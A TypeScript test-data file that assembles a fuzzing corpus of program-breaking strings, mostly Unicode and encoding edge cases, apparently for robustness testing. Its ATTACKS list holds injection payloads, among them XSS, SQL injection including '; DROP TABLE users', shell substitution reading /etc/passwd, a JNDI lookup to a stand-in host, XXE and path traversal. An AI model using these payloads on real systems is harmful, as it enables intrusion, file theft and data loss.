/** Strings that break programs: as bytes, because some are not UTF-8. */

const WORDS = [
  ...[
    'undefined',
    'null',
    'NULL',
    'nil',
    'None',
    'true',
    'False',
    'NaN',
    '-Infinity',
    '[object Object]',
    'hasOwnProperty',
    '__proto__',
  ],
  ...[
    'constructor',
    'toString',
    'then',
    'length',
    '0',
    '-0',
    '+1',
    '00',
    '1e400',
    '1/0',
    '0x0',
    '1,000.00',
    '1 000,00',
    '9'.repeat(60),
  ],
  ...[
    '2147483648',
    '9007199254740993',
    '-9223372036854775808',
    '.',
    '..',
    '...',
    ',',
    ',,',
    ' ',
    '  ',
    '\t',
    '\n',
    '\r\n',
    'a\r\nb',
  ],
  ...[
    'CON',
    'PRN',
    'AUX',
    'COM1',
    'LPT1',
    '~',
    '/etc/passwd',
    '\\\\host\\c$',
    'C:\\',
    'file:///',
    '%',
    '%%',
    '%00',
    '%0d%0aX: y',
    '%zz',
  ],
  ...[
    '%s%n%x',
    '{0}',
    '%n$s',
    'a,b',
    'a;b',
    'a=b',
    '"a"',
    "'a'",
    '`a`',
    'a\\',
    '\\u0000',
    '&#0;',
    '&amp;',
    '=1+1',
    '@SUM(1)',
    '+1-1',
  ],
  ...[
    'a@b@c',
    'a"b@c.example',
    '<a@b.example>',
    'ID;A',
    'true\u0000',
    '\u0000',
    'a\u0000b',
    'x'.repeat(1000),
    '\u00e9'.repeat(500),
  ],
];

/** Ends of a context, and what an attacker writes after them. */
const CONTEXTS = [
  '',
  '"',
  "'",
  '`',
  '>',
  '">',
  "'>",
  '-->',
  '</script>',
  ']]>',
  ';',
  '|',
  '&&',
  '$(',
  '%{',
  '*)(',
  '\\',
  '\r\n\r\n',
];
const ATTACKS = [
  ...[
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    'javascript:alert(1)',
    ' onfocus=alert(1)',
  ],
  ...[
    ' OR 1=1 --',
    '; DROP TABLE users',
    ' UNION SELECT 1',
    '$(id)',
    '`id`',
    '| cat /etc/passwd',
    `\${7*7}`,
    '{{7*7}}',
    '<%= 7*7 %>',
  ],
  ...[
    `\${jndi:ldap://evil.example/a}`,
    '<!ENTITY x SYSTEM "file:///etc/passwd">',
    '(uid=*)',
    '../../../etc/passwd',
    'Set-Cookie: a=b',
  ],
];

/** Sequences of code points that are shown as one sign, turn the direction, or fold to other letters. */
const SEQUENCES = [
  ...[
    '\u202eabc',
    '\u2067a\u2066b',
    '\u202aa\u202b',
    'a\u0301\u0302\u0303\u0304\u0305',
    `Z${'\u0351\u036b\u0343'.repeat(40)}`,
  ],
  ...[
    '\u{1f468}\u200d\u{1f9b0}',
    '\u{1f1fa}\u{1f1f8}\u{1f1f7}',
    '1\ufe0f\u20e3',
    '\u270b\u{1f3ff}',
    '\u2764\ufe0f',
    '\ufdfd',
    '\ufdfa',
  ],
  ...[
    '\u0130i\u0131I',
    '\u1e9e\u00df',
    '\ufb01\ufb02',
    '\u212a\u017f',
    '\u01c5',
    '\uff1cscript\uff1e',
    '\u0e14\u0e49\u0e49\u0e49\u0e47\u0e47',
  ],
  ...[
    '\u05d0\u05b8\u05d1test',
    '\u0645\u064f\u0646',
    '\u7530\u4e2d\u3055\u3093',
    '\ub550\ubc29',
    '\ud800',
    '\udfff',
    'a\ud83d',
    '\udc00\ud800',
  ],
];

const ILL_FORMED = [
  [0x80],
  [0xbf],
  [0xc3],
  [0xc0, 0xaf],
  [0xc1, 0xbf],
  [0xe2, 0x82],
  [0xe0, 0x80, 0xaf],
  [0xed, 0xa0, 0x80],
  [0xf0, 0x9f, 0x98],
  [0xf4, 0x90, 0x80, 0x80],
  [0xf8, 0x88, 0x80, 0x80, 0x80],
  [0xfe],
  [0xff],
  [0xff, 0xfe, 0x61, 0x00],
  [0xfe, 0xff, 0x00, 0x61],
];

/** Every control, separator and format character and every noncharacter of the Basic Multilingual Plane, by Unicode's own lists. */
const SPECIAL = /[\p{Cc}\p{Cf}\p{Zs}\p{Zl}\p{Zp}\p{Noncharacter_Code_Point}]/u;
const BLOCK = 0x100;
const LAST_OF_PLANE = 0xffff;
/** Emoji, mathematical letters, tags and private use, in other planes. */
const OTHER_PLANES = [
  0x10000, 0x1d400, 0x1d500, 0x1d7c0, 0x1f1e6, 0x1f300, 0x1f600, 0x1f900, 0x20000, 0x2f800, 0xe0000,
  0xf0000, 0x10fff0,
];

export const ODD_STRINGS: readonly Uint8Array[] = [
  ...[
    ...WORDS,
    ...CONTEXTS.flatMap((context) => ATTACKS.map((attack) => context + attack)),
    ...SEQUENCES,
    ...specialCharacters().map((character) => `a${character}b`),
    ...samplesOfBlocks(),
    ...OTHER_PLANES.map((start) => text(start, 16, 1)),
  ].map((each) => Buffer.from(each)),
  ...ILL_FORMED.map((bytes) => Buffer.from([0x61, ...bytes, 0x62])),
];

function specialCharacters(): string[] {
  return Array.from({ length: LAST_OF_PLANE + 1 }, (_, code) => String.fromCharCode(code)).filter(
    (character) => SPECIAL.test(character),
  );
}

/** One string from each block of 256 code points, so that every script of the plane has its turn. */
function samplesOfBlocks(): string[] {
  const blocks = Math.ceil(LAST_OF_PLANE / BLOCK);
  return Array.from({ length: blocks }, (_, block) => text(block * BLOCK, 12, 20));
}

function text(start: number, count: number, step: number): string {
  return Array.from({ length: count }, (_, index) =>
    String.fromCodePoint(start + index * step),
  ).join('');
}
